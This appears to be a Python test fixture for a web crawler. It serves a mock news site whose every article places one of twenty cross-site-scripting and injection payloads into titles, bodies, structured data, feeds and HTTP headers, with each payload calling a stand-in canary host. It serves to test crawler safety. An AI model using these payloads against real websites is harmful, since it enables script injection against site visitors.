"""A site that puts a script wherever its words may come to, twenty ways; and what it would tell.

Every article has one payload in its title, summary, body, URL, slug, topics, entities, JSON-LD,
feed entry and header fields, in four formats. A script that ran would call ``owned()``, open a
dialog, write to the console and ask the canary; so would a picture, a style or a link.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from html import escape
from urllib.parse import quote

from tests.crawler.raw_server import Route, answer

#: What a payload's script does; CANARY is the canary's host and port.
_ACT = "owned();alert(1);console.log('owned');new Image().src='//CANARY/i'"
_STYLES = (
    "<link rel=stylesheet href=//CANARY/s><link rel=preconnect href=//CANARY>"
    "<style>@import '//CANARY/t';*{background:url(//CANARY/b)}</style>"
)

PAYLOADS = (
    f"<script>{_ACT}</script>",
    f'<img src="//CANARY/p" onerror="{_ACT}">',
    f'<svg onload="{_ACT}"><animate attributeName=x onbegin="{_ACT}"/></svg>',
    f'"><script>{_ACT}</script><x y="',
    f"'><script>{_ACT}</script><x y='",
    f'" autofocus tabindex=1 onfocus="{_ACT}" x="',
    f"javascript:{_ACT}",
    f"</title><script>{_ACT}</script>",
    f"</textarea></select></option><script>{_ACT}</script>",
    f"</style></svg></math><script>{_ACT}</script>",
    f"</pre></bdi></iframe><script>{_ACT}</script>",
    f"--><!--><script>{_ACT}</script>",
    f"{{{{ cycler.__init__.__globals__ }}}}{{% raw %}}<script>{_ACT}</script>",
    f'<iframe srcdoc="&lt;script&gt;{_ACT}&lt;/script&gt;"></iframe>',
    f'<object data="data:text/html,<script>{_ACT}</script>"></object><embed src="//CANARY/e">',
    f'<math><mi xlink:href="javascript:{_ACT}">x</mi></math><a href="javascript:{_ACT}">x</a>',
    f'<base href="//CANARY/"><form action="//CANARY/f"></form><script>{_ACT}</script>',
    f'<meta http-equiv="refresh" content="0;url=//CANARY/r"><script>{_ACT}</script>',
    _STYLES,
    f"[x](javascript:{_ACT}) ![x](//CANARY/m) ]]>&#x3c;script&#x3e;{_ACT}&#x3c;/script&#x3e;",
)  # fmt: skip

_UPDATED = "2026-06-19T08:09:44Z"
_KINDS = {
    "": "text/html; charset=utf-8",
    ".md": "text/markdown",
    ".txt": "text/plain",
    ".jsonld": "application/ld+json",
}


def payloads(canary: str) -> list[str]:
    """Return the payloads, telling the canary at this host and port."""
    return [each.replace("CANARY", canary) for each in PAYLOADS]


def routes(base: str, canary: str, edition: str) -> dict[str, Route]:
    """Write the site at the origin ``base``; another ``edition`` has other words."""
    made: dict[str, Route] = {}
    targets = []
    for number, payload in enumerate(payloads(canary)):
        target = f"/news/{number}{quote(payload, safe='')}"
        targets.append(target)
        for suffix, body in _bodies(f"{base}{target}", number, payload, canary, edition).items():
            made[target + suffix] = answer(body=body.encode(), headers=_fields(suffix, payload))
    made["/"] = _page("<h1>News</h1>", "text/html")
    made["/robots.txt"] = _page(f"Sitemap: {base}/sitemap.xml\n", "text/plain")
    urls = "".join(f"<url><loc>{base}{escape(each)}</loc></url>" for each in targets)
    made["/sitemap.xml"] = _page(f"<urlset>{urls}</urlset>", "application/xml")
    made["/feed.atom"] = _page(_feed(base, targets, payloads(canary)), "application/atom+xml")
    return made


def _page(text: str, kind: str) -> bytes:
    return answer(body=text.encode(), headers=(f"Content-Type: {kind}",))


def _fields(suffix: str, payload: str) -> tuple[str, ...]:
    return (
        f"Content-Type: {_KINDS[suffix]}; x={payload}",
        f'Link: </x>; rel="preload"; as="script"; title="{payload}"',
        f"Link: <{payload}>; rel=author",
        f"X-Robots-Tag: noai, {payload}",
        f'Content-Usage: train-ai=n, x="{payload}"',
        f'Content-Disposition: inline; filename="{payload}"',
        f"Content-Language: {payload}",
        f"X-Evil: {payload}",
        f"Refresh: 0;url={payload}",
        f"Set-Cookie: {payload}",
    )


def _bodies(url: str, number: int, payload: str, canary: str, edition: str) -> dict[str, str]:
    words = f"Article {number} is told here{edition} and in no other place. " * 8
    facts = {
        "title": f"{number} {payload}", "summary": payload, "author": payload, "url": url,
        "updated_at": _UPDATED, "published_at": _UPDATED, "lang": payload,
        "topics": [payload, "news"], "entities": [payload],
        "canonical_source": f"http://{canary}/o/{quote(payload, safe='')}",
    }  # fmt: skip
    front = "".join(f"{name}: {json.dumps(value)}\n" for name, value in facts.items())
    ld = {
        "@context": "https://schema.org", "@type": "NewsArticle", "headline": facts["title"],
        "description": payload, "url": url, "dateModified": _UPDATED, "datePublished": _UPDATED,
        "articleBody": f"{words}{payload}", "keywords": facts["topics"], "inLanguage": payload,
        "mentions": [{"@type": "Thing", "name": payload}],
        "author": {"@type": "Person", "name": payload},
    }  # fmt: skip
    return {
        "": _html(url, f"{number} {payload}", words, payload, canary),
        ".md": f"---\n{front}---\n# {number} {payload}\n\n{words}\n\n{payload}\n",
        ".txt": f"{number} {payload}\n\n{words}\n\n{payload}\n",
        ".jsonld": json.dumps(ld),
    }


def _html(url: str, title: str, words: str, payload: str, canary: str) -> str:
    alternates = "".join(
        f'<link rel="alternate" type="{kind}" href="{escape(url)}{suffix}">'
        for suffix, kind in _KINDS.items()
        if suffix
    )
    return (
        f'<!doctype html><html><head><meta charset="utf-8"><title>{escape(title)}</title>'
        f'<link rel="canonical" href="{escape(url)}">{alternates}'
        f'<meta property="og:type" content="article">'
        f'<meta property="article:modified_time" content="{_UPDATED}">'
        f'<meta name="description" content="{escape(payload)}"></head>'
        f'<body><main><article><h1>{escape(title)}</h1><p id="away">'
        f'<a href="http://{canary}/a" target="_top">top</a> <a href="http://{canary}/b">here</a> '
        f'<a href="http://{canary}/c" target="_blank">new</a></p>'
        f'<p><a href="http://{canary}/e" target="_self">self</a> '
        f'<iframe srcdoc="&lt;a href=//{canary}/f target=_self>inner&lt;/a>"></iframe></p>'
        f'<svg><a href="http://{canary}/g"><text y="20">drawn</text></a>'
        f'<a><text y="60">moved</text>'
        f'<animate attributeName="href" values="http://{canary}/h"/></a></svg>'
        f'<form action="http://{canary}/d" target="_top"><button>send</button></form>'
        f"<p>{words}</p>{payload}</article></main></body></html>"
    )


def _feed(base: str, targets: Sequence[str], words: Sequence[str]) -> str:
    entries = "".join(
        f"<entry><title>{escape(word)}</title><id>{escape(base + target)}</id>"
        f'<link href="{escape(base + target)}"/><updated>{_UPDATED}</updated></entry>'
        for target, word in zip(targets, words, strict=True)
    )
    return f'<feed xmlns="http://www.w3.org/2005/Atom"><title>{escape(words[0])}</title>{entries}</feed>'
